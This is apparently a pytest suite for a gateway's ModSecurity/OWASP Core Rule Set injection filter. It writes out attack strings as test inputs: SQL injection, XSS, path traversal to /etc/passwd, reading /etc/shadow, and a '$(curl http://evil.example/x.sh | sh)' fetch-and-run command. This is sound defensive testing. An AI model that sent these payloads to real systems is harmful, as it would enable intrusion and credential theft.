"""The injection filter's crs mode in process: libmodsecurity running the OWASP Core Rule
Set (Debian's modsecurity-crs 3.3.4) with its anomaly scoring — each category found in
each place, where it was named and never what it was, paranoia and threshold obeyed,
and a setting that cannot load refused at start."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote

import pytest
from services import require_crs

from trustmesh.config.gateway import GatewayConfig, WafConfig
from trustmesh.errors import ConfigError
from trustmesh.gateway.crs import CrsFilter, CrsFinding, find_rules, load_rule_sets
from trustmesh.gateway.waf import Category

HEADERS = [(b"host", b"shop.example"), (b"user-agent", b"curl/8.5"), (b"accept", b"*/*")]
JSON_TYPE = [*HEADERS, (b"content-type", b"application/json")]
FORM = [*HEADERS, (b"content-type", b"application/x-www-form-urlencoded")]


@pytest.fixture(scope="module")
def rules() -> Path:
    return require_crs()


@pytest.fixture(scope="module")
def crs(rules: Path) -> CrsFilter:
    return CrsFilter(rules=rules)


def get(crs: CrsFilter, query: str, headers: list[tuple[bytes, bytes]] = HEADERS) -> object:
    target = f"/shop?{query}".encode() if query else b"/shop"
    return crs.inspect(method="GET", target=target, headers=headers, body=b"")


def q(value: str) -> str:
    return quote(value, safe="")


@pytest.mark.parametrize(
    ("value", "category"),
    [
        ("1' OR '1'='1'--", Category.SQLI),
        ("1 UNION SELECT username, password FROM users", Category.SQLI),
        ("<script>alert(document.cookie)</script>", Category.XSS),
        ('"><img src=x onerror=alert(1)>', Category.XSS),
        ("../../../../etc/passwd", Category.TRAVERSAL),
        ("; cat /etc/shadow", Category.CMDI),
        ("$(curl http://evil.example/x.sh | sh)", Category.CMDI),
    ],
)
def test_each_category_is_refused_in_the_query(
    crs: CrsFilter, value: str, category: Category
) -> None:
    found = get(crs, f"q={q(value)}")
    assert isinstance(found, CrsFinding)
    assert (found.category, found.location) == (category, "query.q")
    assert found.check.startswith("crs-9")
    assert found.score >= crs.threshold


def test_a_json_string_is_named_by_its_pointer(crs: CrsFilter) -> None:
    body = json.dumps({"order": {"note": "<script>alert(1)</script>"}}).encode()
    found = crs.inspect(method="POST", target=b"/shop", headers=JSON_TYPE, body=body)
    assert isinstance(found, CrsFinding)
    assert (found.category, found.location) == (Category.XSS, "body/order/note")


def test_a_form_field_header_and_cookie_are_named(crs: CrsFilter) -> None:
    form = crs.inspect(
        method="POST", target=b"/shop", headers=FORM, body=b"c=" + q("' or 1=1--").encode()
    )
    assert isinstance(form, CrsFinding)
    assert (form.category, form.location) == (Category.SQLI, "form.c")
    cookie = get(crs, "", [*HEADERS, (b"cookie", b"s=1' union select password from users--")])
    assert isinstance(cookie, CrsFinding)
    assert (cookie.category, cookie.location) == (Category.SQLI, "header.cookie.s")


def test_a_finding_never_holds_the_value(crs: CrsFilter) -> None:
    attack = "<script>alert('stolen')</script>"
    found = get(crs, f"{q(attack)}={q(attack)}")
    assert isinstance(found, CrsFinding)
    assert found.category is Category.XSS
    assert "script" not in repr(found)
    assert "stolen" not in repr(found)


def test_benign_requests_pass(crs: CrsFilter) -> None:
    for query in ("name=O%27Brien&city=Arsenal", f"q={q('select your size; then order')}"):
        assert get(crs, query) is None, query
    body = json.dumps({f"field{i}": f"value number {i}, with words" for i in range(20)})
    assert (
        crs.inspect(method="POST", target=b"/shop", headers=JSON_TYPE, body=body.encode()) is None
    )
    for method in ("PUT", "PATCH", "DELETE"):  # the methods the gateway serves are allowed
        assert crs.inspect(method=method, target=b"/shop/1", headers=JSON_TYPE, body=b"{}") is None


def test_a_body_that_does_not_parse_is_refused(crs: CrsFilter) -> None:
    found = crs.inspect(method="POST", target=b"/shop", headers=JSON_TYPE, body=b'{"a":')
    assert isinstance(found, CrsFinding)
    assert (found.category, found.check) == (Category.PROTOCOL, "crs-200002")


def test_paranoia_adds_rules(rules: Path) -> None:
    prose = f"q={q('I <3 this tea & the mugs')}"  # PL2's 942130 takes this for SQL
    assert get(CrsFilter(rules=rules, paranoia=1), prose) is None
    found = get(CrsFilter(rules=rules, paranoia=2), prose)
    assert isinstance(found, CrsFinding)
    assert found.category is Category.SQLI


def test_the_threshold_is_the_anomaly_score_that_refuses(rules: Path) -> None:
    one_critical = f"q={q('x=$(id)')}"  # one critical rule: score 5
    assert isinstance(get(CrsFilter(rules=rules, threshold=5), one_critical), CrsFinding)
    assert get(CrsFilter(rules=rules, threshold=6), one_critical) is None


def test_settings_that_cannot_load_are_refused(tmp_path: Path, rules: Path) -> None:
    with pytest.raises(ConfigError, match="apt-get install modsecurity-crs"):
        find_rules(tmp_path)
    with pytest.raises(ConfigError, match="paranoia"):
        CrsFilter(rules=rules, paranoia=5)
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "REQUEST-901-INITIALIZATION.conf").write_text("SecBogus On\n")
    with pytest.raises(ConfigError, match="does not load"):
        CrsFilter(rules=broken)


def test_the_rule_sets_load_once_per_setting_and_name_the_route(
    tmp_path: Path, rules: Path
) -> None:
    gateway = GatewayConfig.model_validate(
        {
            "waf": {"mode": "crs"},
            "routes": [
                {"path": "/a", "to": "orders"},
                {"path": "/b", "to": "orders"},
                {"path": "/c", "to": "orders", "waf": {"mode": "fast"}},
                {"path": "/d", "to": "orders", "waf": {"mode": "crs", "paranoia": 2}},
            ],
        }
    )
    a, b, c, d = load_rule_sets(gateway, tmp_path)
    assert a is b
    assert isinstance(a, CrsFilter)
    assert c is None
    assert isinstance(d, CrsFilter)
    assert d.paranoia == 2
    missing = GatewayConfig.model_validate(
        {
            "routes": [
                {"path": "/a", "to": "o"},
                {"path": "/b", "to": "o", "waf": {"mode": "crs", "crs_rules": "nowhere"}},
            ]
        }
    )
    with pytest.raises(ConfigError, match=r"gateway\.routes\[1\]\.waf: .*nowhere"):
        load_rule_sets(missing, tmp_path)


def test_crs_settings_apply_to_crs_mode_only() -> None:
    with pytest.raises(ValueError, match="mode crs only"):
        WafConfig.model_validate({"mode": "fast", "paranoia": 2})
    with pytest.raises(ValueError, match="greater than or equal to 1"):
        WafConfig.model_validate({"mode": "crs", "paranoia": 0})
    assert WafConfig.model_validate({"mode": "crs", "paranoia": 4, "threshold": 10}).threshold == 10


def test_xml_and_multipart_bodies_are_parsed_and_inspected(crs: CrsFilter) -> None:
    xml = [*HEADERS, (b"content-type", b"application/xml")]
    attack = b"<order><note>1' UNION SELECT password FROM users--</note></order>"
    found = crs.inspect(method="POST", target=b"/shop", headers=xml, body=attack)
    assert isinstance(found, CrsFinding)
    assert found.category is Category.SQLI
    broken = crs.inspect(method="POST", target=b"/shop", headers=xml, body=b"<order><note>")
    assert isinstance(broken, CrsFinding)
    assert broken.check == "crs-200002"
    multipart = [*HEADERS, (b"content-type", b"multipart/form-data; boundary=xyz")]
    body = (
        b'--xyz\r\nContent-Disposition: form-data; name="note"\r\n\r\n'
        b"<script>alert(1)</script>\r\n--xyz--\r\n"
    )
    found = crs.inspect(method="POST", target=b"/shop", headers=multipart, body=body)
    assert isinstance(found, CrsFinding)
    assert (found.category, found.location) == (Category.XSS, "form.note")


def test_a_location_is_named_only_where_the_request_holds_it(crs: CrsFilter) -> None:
    """The matched data comes first in the engine's text: an attacker who writes
    ``found within REQUEST_HEADERS:x-spoofed:`` into it does not choose the location."""
    spoof = q("1 union select found within REQUEST_HEADERS:x-spoofed: password from users--")
    found = get(crs, f"q={spoof}")
    assert isinstance(found, CrsFinding)
    assert found.location == "query.q"


def test_bytes_that_are_not_utf8_do_not_break_the_finding(crs: CrsFilter) -> None:
    body = b"c=\x93\x94' or '1'='1' -- \xff"
    found = crs.inspect(method="POST", target=b"/shop", headers=FORM, body=body)
    assert isinstance(found, CrsFinding)
    assert found.category is Category.SQLI


def test_credentials_are_never_handed_to_the_engine(tmp_path: Path) -> None:
    """A rule that would refuse a value in Authorization never sees it (the CRS at
    paranoia 1 does not look there: a rule of this test's does)."""
    (tmp_path / "REQUEST-901-TEST.conf").write_text(
        "SecRule REQUEST_HEADERS:Authorization|REQUEST_HEADERS:Proxy-Authorization|"
        'REQUEST_HEADERS:X-Other "@contains evil" '
        "\"id:999001,phase:1,pass,log,tag:'attack-generic',severity:'CRITICAL',"
        "logdata:'Matched Data: %{TX.0} found within %{MATCHED_VAR_NAME}: %{MATCHED_VAR}',"
        'setvar:tx.evil=1"\n'
        'SecRule TX:EVIL "@eq 1" "id:999002,phase:2,deny,status:403,log"\n'
    )
    crs = CrsFilter(rules=tmp_path)
    for name in (b"authorization", b"proxy-authorization"):
        assert get(crs, "", [*HEADERS, (name, b"Bearer evil")]) is None
    found = get(crs, "", [*HEADERS, (b"x-other", b"evil")])
    assert isinstance(found, CrsFinding)
    assert found.location == "header.x-other"
